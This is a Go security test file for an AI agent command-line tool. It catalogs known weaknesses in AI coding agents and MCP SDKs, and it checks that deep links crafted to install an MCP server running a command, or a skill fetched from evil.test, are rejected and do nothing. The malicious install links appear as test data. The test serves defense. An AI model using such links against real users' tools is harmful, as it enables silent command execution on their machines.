//go:build sectest

package sectest

import (
	"net/url"
	"path/filepath"
	"strings"
)

var rowsF = []row{
	{id: "F1", title: "opencode: no auth + CORS * on local HTTP", owed: "the server (issue 8)"},
	{id: "F2", title: "opencode: XSS in web UI → commands", owed: "the server (issue 8)"},
	{id: "F3", title: "Claude IDE ext: websocket without Origin/auth", owed: "the server (issue 8)"},
	{id: "F4", title: "Codex: exec-server WS accepted Origin", owed: "the server (issue 8)"},
	{id: "F5", title: "MCP TS/Py/Go/Java SDK: DNS rebinding", owed: "the server (issue 8)"},
	{id: "F6", title: "MCP go-sdk: cross-site POST tool execution (content-type)", owed: "the server (issue 8)"},
	{id: "F7", title: "MCP go-sdk: Go encoding/json case-insensitive / NUL keys → validator bypass", owed: "the server (issue 8)"},
	{id: "F8", title: "OpenHands SDK: binds 0.0.0.0, empty key list = no auth", owed: "the server (issue 8)"},
	{id: "F9", title: "goose: default secret; non-constant-time compare", owed: "the server (issue 8)"},
	{id: "F10", title: "Gemini: task could set workspace/trust", owed: "the server (issue 8)"},
	{id: "F11", title: "MCP TS SDK: transport reused across clients leaks responses", owed: "the server (issue 8)"},
	{id: "F12", title: "goose, Cursor: URL handler installs extension", attack: linksThatInstall, unbreakable: "pawl registers itself for no links and takes none as an argument: there is nothing to leave out"},
	{id: "F13", title: "Codex: long-lived grants", owed: "the server (issue 8)"},
}

// linksThatInstall are what a page has a desktop open: the program of the link is
// started with it as an argument, alone or as words to work on.
func linksThatInstall(a *arena) {
	touch := url.QueryEscape(`{"command":"touch","args":["` + a.canary("link") + `"]}`)
	for _, link := range []string{
		"pawl://mcp/install?name=x&config=" + touch,
		"pawl:skills/add?source=https://evil.test/skill&yes=true",
		"goose://extension?cmd=touch&arg=" + url.QueryEscape(a.canary("link")) + "&id=x&name=x",
		"cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=" + touch,
	} {
		if out := a.pawl(link); out.Code != 2 {
			a.breach("pawl %s ends with %d: %s", link, out.Code, out.Stdout)
		}
		a.write("s.jsonl", `{"text":"read"}`)
		if out := a.pawl("run", "--model", "script:s.jsonl", link); out.Code != 0 {
			a.Fatalf("the link was not worked on: %s", out.Stderr)
		}
	}
	a.canaries()
	for _, kind := range []string{"mcp", "skills", "agents", "commands"} {
		if out := a.pawl(kind, "list"); strings.Contains(out.Stdout, "evil") || strings.Contains(out.Stdout, "touch") {
			a.breach("a link has brought %s: %s", kind, out.Stdout)
		}
	}
	for _, path := range []string{".local/share/applications", ".config/mimeapps.list"} {
		if a.exists(filepath.Join(a.home, path)) {
			a.breach("pawl has registered itself for links: %s", path)
		}
	}
}
